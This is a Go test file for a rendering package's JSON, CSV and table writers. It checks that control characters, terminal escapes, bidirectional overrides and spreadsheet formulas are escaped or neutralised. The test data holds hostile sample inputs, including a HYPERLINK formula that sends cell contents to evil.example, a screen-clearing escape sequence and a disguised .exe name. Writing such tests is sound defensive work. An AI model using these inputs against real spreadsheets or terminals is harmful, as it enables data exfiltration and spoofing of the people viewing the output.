package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestJSONStreamIsValid(t *testing.T) {
	for _, n := range []int{0, 1, 3} {
		var b bytes.Buffer
		s := NewJSONStream(&b, "rows")
		for i := 0; i < n; i++ {
			if err := s.Item(map[string]int{"i": i}); err != nil {
				t.Fatal(err)
			}
		}
		if err := s.End(Member{"stats", map[string]int{"rows": n}}); err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Rows  []map[string]int
			Stats map[string]int
		}
		if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
			t.Fatalf("n=%d: invalid JSON %v:\n%s", n, err, b.String())
		}
		if len(doc.Rows) != n || doc.Stats["rows"] != n {
			t.Errorf("n=%d: got %d rows, stats %v; want %d", n, len(doc.Rows), doc.Stats, n)
		}
	}
}

func TestCSVAndTable(t *testing.T) {
	var c, tb bytes.Buffer
	for _, tc := range []struct {
		format string
		buf    *bytes.Buffer
		want   string
	}{
		{"csv", &c, "A,B\n\"x,y\",\n"},
		{"table", &tb, "A    B\nx,y  -\n"},
	} {
		w, err := NewRows(tc.buf, tc.format, RowsOptions{})
		if err != nil {
			t.Fatal(err)
		}
		_ = w.Header([]string{"A", "B"})
		_ = w.Row([]string{"x,y", ""})
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(tc.want, tc.buf.String()); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.format, diff)
		}
	}
}

func TestEscape(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"payments-prod", "payments-prod"},
		{"", ""},
		{"ops\rSPOOFED", `ops\rSPOOFED`},
		{"a\tb\nc", `a\tb\nc`},
		{"\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`},
		{"del\x7f", `del\x7f`},
		{"c1\u0085", `c1\x85`},
		{"evil\u202etxt.exe", `evil\u202etxt.exe`},
		{"line\u2028sep", `line\u2028sep`},
		{"bad\xffutf8", `bad\xffutf8`},
		{"東京-prod", "東京-prod"},
		{`back\slash`, `back\slash`},
	} {
		if got := Escape(tc.in); got != tc.want {
			t.Errorf("Escape(%q) = %q; want %q", tc.in, got, tc.want)
		}
	}
}

// TestTableEscapesAndAlignsByDisplayWidth: a name with a carriage return
// cannot overwrite cells on a terminal, and wide characters count twice.
func TestTableEscapesAndAlignsByDisplayWidth(t *testing.T) {
	var b bytes.Buffer
	w, err := NewRows(&b, "table", RowsOptions{})
	if err != nil {
		t.Fatal(err)
	}
	_ = w.Header([]string{"group", "account"})
	_ = w.Row([]string{"ops\rSPOOFED", "payments-prod"})
	_ = w.Row([]string{"東京", "tokyo"})
	_ = w.Row([]string{"x", "\x1b[2J"})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "GROUP         ACCOUNT\n" +
		"ops\\rSPOOFED  payments-prod\n" +
		"東京          tokyo\n" +
		"x             \\x1b[2J\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("table (-want +got):\n%s", diff)
	}
}

// TestJSONStreamAbort: a failure before the first item leaves nothing; a
// failure after some items leaves one complete document with the error.
func TestJSONStreamAbort(t *testing.T) {
	var b bytes.Buffer
	s := NewJSONStream(&b, "assignments")
	if err := s.Abort(errors.New("access denied")); err != nil {
		t.Fatal(err)
	}
	if b.Len() != 0 {
		t.Errorf("got %q after a failure before the first item; want nothing", b.String())
	}
	_ = s.Item(map[string]int{"i": 1})
	if err := s.Abort(errors.New("access denied")); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Assignments []map[string]int
		Error       string
	}
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatalf("invalid JSON %v:\n%s", err, b.String())
	}
	if len(doc.Assignments) != 1 || doc.Error != "access denied" {
		t.Errorf("got %+v; want one item and the error", doc)
	}
}

// TestCSVCellsAreSafeForSpreadsheets: a cell a spreadsheet would read as a
// formula gets a ' in front (OWASP), control and bidirectional characters
// are escaped as tables escape them, Changed counts the cells changed, and
// ExactCSV (--csv-raw) writes every value as it is.
func TestCSVCellsAreSafeForSpreadsheets(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+cmd@example.com",
		"-2+3",
		"@SUM(A1:A9)",
		"\t=1+1",
		"\r=1+1",
		"ops\u202etxt.exe",
		"\x1b[2Jgone",
		"alice.johnson", // left alone
		"",
		"a-b=c",     // a formula character inside is harmless
		"'=already", // a leading ' is kept as it is
	}
	want := []string{
		`'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"'+cmd@example.com",
		"'-2+3",
		"'@SUM(A1:A9)",
		`\t=1+1`,
		`\r=1+1`,
		`ops\u202etxt.exe`,
		`\x1b[2Jgone`,
		"alice.johnson",
		"",
		"a-b=c",
		"'=already",
	}
	for i, in := range hostile {
		got, changed := SafeCell(in)
		if got != want[i] || changed != (got != in) {
			t.Errorf("SafeCell(%q) = %q, %v; want %q, %v", in, got, changed, want[i], want[i] != in)
		}
	}

	var safe, exact bytes.Buffer
	for _, tc := range []struct {
		buf         *bytes.Buffer
		opts        RowsOptions
		wantChanged int
		wantCells   []string
	}{
		{&safe, RowsOptions{}, 8, want},
		{&exact, RowsOptions{ExactCSV: true}, 0, hostile},
	} {
		w, err := NewRows(tc.buf, "csv", tc.opts)
		if err != nil {
			t.Fatal(err)
		}
		_ = w.Header([]string{"name", "n"})
		for _, h := range hostile {
			if err := w.Row([]string{h, "1"}); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if w.Changed() != tc.wantChanged {
			t.Errorf("%+v: Changed() = %d; want %d", tc.opts, w.Changed(), tc.wantChanged)
		}
		recs, err := csv.NewReader(tc.buf).ReadAll()
		if err != nil {
			t.Fatalf("%+v: the CSV does not parse: %v", tc.opts, err)
		}
		var got []string
		for _, r := range recs[1:] {
			got = append(got, r[0])
		}
		if diff := cmp.Diff(tc.wantCells, got); diff != "" {
			t.Errorf("%+v: cells read back (-want +got):\n%s", tc.opts, diff)
		}
	}
}

// BenchmarkCSVRows writes audit-like rows (eight cells of names, e-mail
// addresses and ids, none of them hostile) through the CSV writer, made
// safe (the default) and exact (--csv-raw): what making cells safe costs a
// large audit.
func BenchmarkCSVRows(b *testing.B) {
	row := []string{"alice.johnson@example.com", "alice.johnson", "123456789012", "payments-prod", "AdministratorAccess",
		"GROUP", "b4c704e312-e642a1f3-5e3c-4f7b-9f38-3d0a1c2b4e5f", "platform-admins"}
	for _, tc := range []struct {
		name string
		opts RowsOptions
	}{{"safe", RowsOptions{}}, {"exact", RowsOptions{ExactCSV: true}}} {
		b.Run(tc.name, func(b *testing.B) {
			w, _ := NewRows(io.Discard, "csv", tc.opts)
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				if err := w.Row(row); err != nil {
					b.Fatal(err)
				}
			}
			if err := w.Flush(); err != nil {
				b.Fatal(err)
			}
		})
	}
}
